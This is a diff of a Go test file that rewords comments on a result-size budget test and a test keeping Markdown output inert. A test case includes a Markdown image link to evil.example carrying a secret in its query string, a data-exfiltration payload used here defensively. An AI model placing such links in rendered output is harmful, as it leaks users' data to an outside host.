@@ -112,7 +112,7 @@ func TestWholePointers(t *testing.T) {
 	}
 }
 
-// TestPipelineTooLarge checks that a single record over the budget is refused, with a suggestion what to leave out.
+// TestPipelineTooLarge checks that a single record over the budget is refused, with a suggestion which columns to omit.
 func TestPipelineTooLarge(t *testing.T) {
 	for _, tt := range []struct{ pipeline, want string }{
 		{byAuthor, `the result is 222 bytes, over the budget of 100; the largest fields are texts (211 bytes) | end with {"$project": {"_id": 1}}, or gather less`},
@@ -136,7 +136,7 @@ func TestPipelineTooLarge(t *testing.T) {
 }
 
 // TestMarkdownIsInert checks that data stays plain text in Markdown. It must not become a link, an image, an address
-// that readers turn into a link, or a code block that contains the text after it.
+// that readers turn into a link, or a code block around the text after it.
 func TestMarkdownIsInert(t *testing.T) {
 	for _, tt := range [][2]string{
 		{"![x](https://evil.example/?q=secret)", `!\[x\](https\://evil.example/?q=secret)`},
